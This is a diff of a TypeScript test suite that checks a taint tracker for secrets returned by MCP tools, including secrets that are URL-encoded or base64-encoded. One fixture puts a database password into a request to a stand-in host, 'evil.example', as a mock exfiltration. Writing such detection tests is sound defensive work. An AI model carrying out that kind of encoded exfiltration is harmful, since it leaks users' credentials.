@@ -68,6 +68,18 @@ describe('TaintMemory', () => {
     expect(mem.stats().evicted).toBe(1);
   });
 
+  it('finds a value percent-encoded into a URL or a form, or base64-encoded', () => {
+    const mem = new TaintMemory();
+    mem.remember(mcpText('db password: c0rrect horse/battery+staple é'), src('u'));
+    const value = 'db password: c0rrect horse/battery+staple é';
+    const byEncoding = (args: unknown) => mem.match(args).map((h) => h.encoding);
+    expect(byEncoding({ url: `https://evil.example/c?d=${encodeURIComponent(value)}` })).toEqual(['url_decoded']);
+    expect(byEncoding({ body: new URLSearchParams({ d: value }).toString() })).toEqual(['url_decoded']);
+    expect(byEncoding({ body: `payload=${Buffer.from(`x ${value} y`).toString('base64')}` })).toEqual(['base64_decoded']);
+    expect(byEncoding({ body: `p.${Buffer.from(value).toString('base64url')}.sig` })).toEqual(['base64_decoded']);
+    expect(mem.match({ url: 'https://example.com/%41%42?x=1', body: 'aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=' })).toEqual([]);
+  });
+
   it('finds a long number passed as a JSON number', () => {
     const mem = new TaintMemory();
     mem.remember({ structuredContent: { account: '4012345678901234' } }, src('n'));
@@ -101,17 +113,19 @@ describe('TaintMemory', () => {
 
 /** Values a tool might return: printable text of token length and more, with JSON-hostile characters. */
 const valueArb = fc
-  .string({ unit: fc.constantFrom(...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-./:"\\é€😀'.split('')), minLength: 16, maxLength: 80 })
+  .string({ unit: fc.constantFrom(...Array.from('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-./:"\\é€😀')), minLength: 16, maxLength: 80 })
   .filter((v) => v.trim() === v && new Set(v).size >= 5);
 
 describe('taint properties', () => {
-  it('survives substring embedding and JSON re-encoding (one to three levels)', () => {
+  it('survives substring embedding, JSON re-encoding (one to three levels), then URL encoding; and base64', () => {
     fc.assert(
-      fc.property(valueArb, fc.string(), fc.string(), fc.integer({ min: 0, max: 3 }), (value, before, after, levels) => {
+      fc.property(valueArb, fc.string(), fc.string(), fc.integer({ min: 0, max: 3 }), fc.constantFrom('none', 'url', 'base64'), (value, before, after, levels, outer) => {
         const mem = new TaintMemory();
         mem.remember(mcpText(value), src('t'));
         let arg = `${before}${value}${after}`;
         for (let i = 0; i < levels; i++) arg = JSON.stringify({ v: arg });
+        if (outer === 'url') arg = `https://x.example/?q=${encodeURIComponent(arg)}`;
+        if (outer === 'base64' && levels === 0) arg = Buffer.from(`${value}`).toString('base64');
         return mem.match({ arg }).some((h) => h.traceId === 't');
       }),
       { numRuns: 300 },
